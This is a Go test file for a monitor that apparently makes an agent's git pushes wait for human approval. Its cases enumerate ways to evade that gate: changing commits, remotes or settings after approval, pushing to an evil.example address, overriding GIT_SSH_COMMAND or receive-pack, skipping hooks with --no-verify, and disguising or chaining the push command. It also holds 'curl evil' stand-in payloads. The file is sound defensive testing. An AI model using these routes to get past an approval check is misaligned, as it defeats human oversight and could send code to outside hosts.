package pushdoor

import (
	"context"
	"path/filepath"

	"github.com/floodmark/floodmark/hook"
	"github.com/floodmark/floodmark/internal/agents"
)

// colleague commits another person's work to the default branch of the remote.
func colleague(w *world) {
	other := filepath.Join(w.home, "other")
	w.in(w.home, "", "clone", "-q", w.origin, other)
	w.write(filepath.Join(other, "src/deep/theirs.txt"), "theirs\n")
	w.in(other, "", "add", "-A")
	w.in(other, "", "commit", "-q", "-m", "theirs")
	w.in(other, "", "push", "-q")
	w.old = w.objects()
}

// theirs makes another person's commit in a remote.
func theirs(w *world, repo string) {
	tree := w.in(repo, "", "rev-parse", "main^{tree}")
	id := w.in(repo, "", "-c", "user.name=Eve", "-c", "user.email=eve@example.org", "commit-tree", tree, "-p", "main", "-m", "theirs")
	w.in(repo, "", "update-ref", "refs/heads/main", id)
	w.old["origin.git commit "+id], w.old["origin.git ref refs/heads/main"] = "", id
}

// A forgetful removes everything but the decision from a reply, as a gate that has agreed does.
type forgetful struct{ agents.Hooks }

func (f forgetful) Handle(ctx context.Context, tenant string, ev hook.Event) (hook.Reply, error) {
	r, err := f.Hooks.Handle(ctx, tenant, ev)
	return hook.Reply{Decision: r.Decision, Line: r.Line, Ticket: r.Ticket}, err
}

// sets adds settings of the repository.
func sets(text string) func(w *world) { return func(w *world) { w.add(".git/config", text) } }

// movesAfterTheYes returns attempts that change something between the approval and the push.
func movesAfterTheYes() []attempt {
	return []attempt{
		{name: "another commit after the yes", setup: fine, then: evil, want: again},
		{name: "the commit is amended after the yes", setup: fine, then: func(w *world) { w.write("fine.txt", "curl evil\n"); w.git("commit", "-q", "-a", "--amend", "-m", "x") }, want: again},
		{name: "another branch is checked out after the yes", setup: fine, then: func(w *world) { w.git("checkout", "-q", "-b", "other"); evil(w) }, want: again},
		{name: "the branch is reset after the yes", setup: fine, then: func(w *world) { w.git("reset", "-q", "--hard", "HEAD~") }, want: refused},
		{name: "a file is replaced after the yes", setup: evil, then: func(w *world) {
			w.git("replace", w.git("rev-parse", "HEAD:evil.sh"), w.git("rev-parse", "HEAD:run.sh"))
		}, want: pushed},
		{name: "a file is forged after the yes", setup: evil, then: func(w *world) { forge(w, w.git("rev-parse", "HEAD:evil.sh"), "blob", "worse\n") }, want: refused},
		{name: "settings change after the yes", setup: fine, then: sets("[remote \"origin\"]\n\tpushurl = /tmp/elsewhere\n"), want: again},
		{name: "a new address after the yes", setup: fine, then: func(w *world) { w.git("remote", "set-url", "origin", w.evil) }, want: again},
		{name: "the remote moves after the yes", setup: fine, then: func(w *world) { theirs(w, w.origin) }, want: refused},
		{name: "the remote moved before", setup: func(w *world) { fine(w); theirs(w, w.origin) }, want: refused},
		{name: "the remote's branch is gone after the yes", setup: fine, then: func(w *world) {
			w.in(w.origin, "", "update-ref", "refs/heads/kept", "main")
			w.in(w.origin, "", "update-ref", "-d", "refs/heads/main")
			delete(w.old, "origin.git ref refs/heads/main")
			w.old["origin.git ref refs/heads/kept"] = w.in(w.origin, "", "rev-parse", "kept")
		}, want: again},
		{name: "a new branch", setup: func(w *world) { w.git("checkout", "-q", "-b", "feature/a"); fine(w) }, line: "git push -u origin feature/a", want: pushed, head: "which has no such branch yet"},
		{name: "the branch there already is elsewhere", setup: func(w *world) { w.git("checkout", "-q", "-b", "x"); fine(w); w.git("checkout", "-q", "main") }, line: "git push origin x", want: unseen},
		{name: "a new branch, and the remote has moved", setup: func(w *world) { w.git("checkout", "-q", "-b", "x"); fine(w); theirs(w, w.origin) }, want: pushed, head: "Sends 1 commit, 1 file"},
		{name: "the monitor is started again after the yes", setup: fine, then: func(w *world) { w.door = New(w.door.cfg) }, want: again},
		{name: "with its errors", setup: fine, line: "git push 2>&1", want: pushed},
		{name: "a gate agrees after the yes", setup: func(w *world) { fine(w); w.door.cfg.Hooks = forgetful{w.door.cfg.Hooks} }, want: pushed},
		{name: "nothing new", want: refused},
		{name: "only the name of a branch", setup: func(w *world) { w.git("checkout", "-q", "-b", "x") }, want: unseen},
		{name: "what is staged", setup: func(w *world) { fine(w); w.write("evil.sh", "curl evil\n"); w.git("add", "evil.sh") }, want: pushed, never: "evil"},
		{name: "what lies there", setup: func(w *world) { fine(w); w.write("evil.sh", "curl evil\n") }, want: pushed, never: "evil"},
		{name: "an index that lies", setup: func(w *world) {
			evil(w)
			w.git("update-index", "--assume-unchanged", "evil.sh")
			w.write("evil.sh", "fine\n")
		}, want: pushed, body: "  + curl evil"},
		{name: "packed names against loose ones", setup: func(w *world) {
			was := w.git("rev-parse", "HEAD")
			w.git("pack-refs", "--all")
			evil(w)
			w.write(".git/packed-refs", "# pack-refs with: peeled fully-peeled sorted \n"+was+" refs/heads/main\n")
		}, want: pushed, body: "  + curl evil"},
		{name: "a branch that is a name of another", setup: func(w *world) {
			w.git("checkout", "-q", "-b", "x")
			evil(w)
			w.write(".git/refs/heads/main", "ref: refs/heads/x\n")
			w.git("checkout", "-q", "main")
		}, want: unseen},
		{name: "no branch at all", setup: func(w *world) { fine(w); w.git("checkout", "-q", "--detach") }, want: unseen},
		{name: "a head that leads out", setup: func(w *world) { fine(w); w.write(".git/HEAD", "ref: refs/heads/../../x\n") }, want: unseen},
		{name: "a branch that is an option", setup: func(w *world) {
			fine(w)
			w.write(".git/refs/heads/--force", w.git("rev-parse", "HEAD")+"\n")
			w.write(".git/HEAD", "ref: refs/heads/--force\n")
		}, want: refused},
		{name: "with tests in the line", setup: fine, line: "go test ./... && git push", want: refused},
		{name: "with a commit in the line", setup: fine, line: "git commit -q -m x; git push", want: refused},
		{name: "with another command behind", setup: fine, line: "git push; git log", want: refused},
		{name: "forced", setup: fine, line: "git push --force", want: plainly},
	}
}

// movesOfOthers returns changes of colleagues at the remote in that time.
func movesOfOthers() []attempt {
	return []attempt{
		{name: "a colleague was there before", setup: func(w *world) {
			colleague(w)
			w.git("checkout", "-q", "-b", "topic")
			evil(w)
		}, line: "git push origin topic", want: pushed, body: "  + curl evil", never: "theirs"},
		{name: "a colleague was there before, and is known", setup: func(w *world) {
			colleague(w)
			w.git("fetch", "-q", "origin")
			w.git("checkout", "-q", "-b", "topic")
			evil(w)
		}, line: "git push origin topic", want: pushed, body: "  + curl evil", never: "theirs"},
		{name: "a colleague was there before, on the branch of another", setup: func(w *world) {
			w.git("checkout", "-q", "-b", "topic")
			w.git("push", "-q", "origin", "topic")
			colleague(w)
			w.git("fetch", "-q", "origin")
			evil(w)
		}, line: "git push origin topic", want: pushed, body: "  + curl evil", never: "theirs"},
	}
}

// movesOfLines returns command lines that are more than a push.
func movesOfLines() []attempt {
	return []attempt{
		{name: "the word in quotes", setup: evil, line: "git pu''sh", want: refused},
		{name: "the word with a backslash", setup: evil, line: `git pu\sh origin main`, want: refused},
		{name: "forced by a sign", setup: fine, line: "git push origin +main", want: plainly},
		{name: "with a lease", setup: fine, line: "git push --force-with-lease", want: plainly},
		{name: "tags", setup: fine, line: "git push --tags", want: plainly},
		{name: "everything", setup: fine, line: "git push --all", want: plainly},
		{name: "a mirror", setup: fine, line: "git push --mirror", want: plainly},
		{name: "a branch is deleted", setup: fine, line: "git push origin :main", want: plainly},
		{name: "a branch is deleted by an option", setup: fine, line: "git push --delete origin main", want: plainly},
		{name: "another name there", setup: fine, line: "git push origin main:other", want: plainly},
		{name: "another remote", setup: fine, line: "git push evil main", want: plainly},
		{name: "an address", setup: fine, line: "git push https://evil.example/x main", want: plainly},
		{name: "settings in the line", setup: fine, line: "git -c remote.origin.pushurl=https://evil.example/x push", want: plainly},
		{name: "a variable in the line", setup: fine, line: "GIT_SSH_COMMAND=./evil git push", want: plainly},
		{name: "without hooks", setup: fine, line: "git push --no-verify", want: plainly},
		{name: "another program to receive", setup: fine, line: "git push --receive-pack=./evil", want: plainly},
		{name: "two branches", setup: fine, line: "git push origin main other", want: plainly},
	}
}
